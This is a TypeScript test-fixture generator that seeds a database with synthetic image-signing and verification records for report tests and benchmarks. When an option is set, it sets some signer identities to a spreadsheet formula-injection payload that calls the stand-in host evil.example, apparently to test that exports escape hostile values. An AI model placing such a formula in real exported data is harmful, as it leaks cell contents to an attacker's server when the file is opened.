/**
 * A generated verification history for report tests and the report benchmark: `n` images in
 * a few repositories of one organization, each with a keyless signature (certificate with
 * GitHub claims, Rekor entry), an attestation on every third, and one finished run; verdicts
 * cycle through verified / failed / unsigned / error. Written with createMany (10k images in
 * a few seconds). Every time is derived from `t0`: the same call gives the same data.
 */
import { createHash } from 'node:crypto';
import type { Db } from '../../lib/db/client';

const hex = (s: string) => createHash('sha256').update(s).digest('hex');
export const GEN_REGISTRY = 'registry.example';
export const GEN_ORG = 'acme';
export const GEN_ISSUER = 'https://token.actions.githubusercontent.com';
const STATUSES = ['verified', 'verified', 'verified', 'failed', 'unsigned', 'verified', 'error', 'signed-unchecked'] as const;

export interface GeneratedHistory {
  images: Array<{ id: string; registry: string; repository: string; digest: string; status: string; runId: string }>;
}

export async function seedGeneratedHistory(db: Db, n: number, opts: { t0?: number; prefix?: string; hostileIdentityEvery?: number } = {}): Promise<GeneratedHistory> {
  const t0 = opts.t0 ?? Date.parse('2026-01-05T10:00:00Z');
  const p = opts.prefix ?? 'g';
  const at = (i: number, extraMs = 0) => new Date(t0 + i * 1000 + extraMs);
  const out: GeneratedHistory = { images: [] };
  const BATCH = 500;
  for (let start = 0; start < n; start += BATCH) {
    const images = [];
    const tags = [];
    const certs = [];
    const sigs = [];
    const runs = [];
    const results = [];
    for (let i = start; i < Math.min(n, start + BATCH); i++) {
      const repository = `${GEN_ORG}/svc-${i % 7}`;
      const digest = `sha256:${hex(`${p}-image-${i}`)}`;
      const imageId = `${p}img${i}`;
      const status = STATUSES[i % STATUSES.length]!;
      const hostile = opts.hostileIdentityEvery && i % opts.hostileIdentityEvery === 0;
      const identity = hostile ? `=HYPERLINK("http://evil.example/?"&A1,"x")` : `https://github.com/${GEN_ORG}/svc-${i % 7}/.github/workflows/release.yml@refs/tags/v1.${i}.0`;
      images.push({ id: imageId, registry: GEN_REGISTRY, repository, digest, mediaType: 'application/vnd.oci.image.index.v1+json', platforms: JSON.stringify([{ os: 'linux', architecture: 'amd64', digest: `sha256:${hex(`${p}-amd64-${i}`)}` }, { os: 'linux', architecture: 'arm64', variant: 'v8', digest: `sha256:${hex(`${p}-arm64-${i}`)}` }]), firstSeenAt: at(i) });
      tags.push({ id: `${p}tag${i}`, imageId, tag: `1.${i}.0`, digest, observedAt: at(i) });
      const runId = `${p}run${i}`;
      const signed = status !== 'unsigned' && status !== 'error';
      if (signed) {
        const certId = `${p}cert${i}`;
        certs.push({
          id: certId,
          fingerprintSha256: hex(`${p}-cert-${i}`),
          pem: '-----BEGIN CERTIFICATE-----\nMA==\n-----END CERTIFICATE-----\n',
          subject: '',
          issuer: 'O=sigstore.dev, CN=sigstore-intermediate',
          identity,
          oidcIssuer: GEN_ISSUER,
          notBefore: at(i, -60_000),
          notAfter: at(i, 540_000),
          extensions: JSON.stringify({ sourceRepositoryUri: `https://github.com/${GEN_ORG}/svc-${i % 7}`, sourceRepositoryRef: `refs/tags/v1.${i}.0`, buildTrigger: 'push', runnerEnvironment: 'github-hosted', sourceRepositoryDigest: hex(`${p}-commit-${i}`).slice(0, 40), buildConfigUri: `https://github.com/${GEN_ORG}/svc-${i % 7}/.github/workflows/release.yml@refs/tags/v1.${i}.0` }),
          firstSeenAt: at(i),
        });
        const sigId = `${p}sig${i}`;
        sigs.push({ id: sigId, imageId, kind: 'cosign-sig', format: 'cosign-sig', source: `sha256-x.sig@${i}`, layerDigest: `sha256:${hex(`${p}-layer-${i}`)}`, payloadDigest: `sha256:${hex(`${p}-payload-${i}`)}`, materialDigest: `sha256:${hex(`${p}-material-${i}`)}`, signatureB64: 'c2ln', certificateId: certId, identity, oidcIssuer: GEN_ISSUER, rekorLogIndex: BigInt(100_000 + i), rekorLogId: 'c0d23d6ad406973f9559f3ba2d1ca01f84147d8ffc5b8445c224f98b9591801d', rekorIntegratedTime: at(i), firstSeenAt: at(i) });
        results.push({ id: `${p}res${i}`, runId, signatureId: sigId, verdict: status === 'failed' ? 'failed' : status, reasonCode: status === 'failed' ? 'identity-mismatch' : null, reason: status === 'failed' ? `-certificate identity ${identity} is not the expected one` : null, checks: '[]', identity, oidcIssuer: GEN_ISSUER });
        if (i % 3 === 0) {
          const attId = `${p}att${i}`;
          sigs.push({ id: attId, imageId, kind: 'attestation', format: 'cosign-att', source: `sha256-x.att@${i}`, layerDigest: `sha256:${hex(`${p}-alayer-${i}`)}`, payloadDigest: `sha256:${hex(`${p}-apayload-${i}`)}`, materialDigest: `sha256:${hex(`${p}-amaterial-${i}`)}`, signatureB64: 'c2ln', predicateType: 'https://slsa.dev/provenance/v1', certificateId: certId, identity, oidcIssuer: GEN_ISSUER, firstSeenAt: at(i) });
          results.push({ id: `${p}ares${i}`, runId, signatureId: attId, verdict: status === 'failed' ? 'failed' : status, checks: '[]', identity, oidcIssuer: GEN_ISSUER });
        }
      }
      runs.push({
        id: runId,
        createdAt: at(i, 500),
        finishedAt: at(i, 900),
        input: `${GEN_REGISTRY}/${repository}:1.${i}.0`,
        imageId,
        tag: `1.${i}.0`,
        status,
        errorCode: status === 'error' ? 'REGISTRY_UNREACHABLE' : null,
        errorMessage: status === 'error' ? '@registry did not answer' : null,
        policy: '{}',
        policyHash: 'gen-policy-hash',
        trustRootName: 'public-good',
        trustRootHash: 'gen-root-hash',
        source: 'cli',
        summary: JSON.stringify({ text: status === 'unsigned' ? 'No signature found.' : `run ${status}` }),
      });
      out.images.push({ id: imageId, registry: GEN_REGISTRY, repository, digest, status, runId });
    }
    await db.image.createMany({ data: images });
    await db.tagObservation.createMany({ data: tags });
    if (certs.length) await db.certificate.createMany({ data: certs });
    if (sigs.length) await db.signature.createMany({ data: sigs });
    await db.verificationRun.createMany({ data: runs });
    if (results.length) await db.signatureResult.createMany({ data: results });
  }
  return out;
}
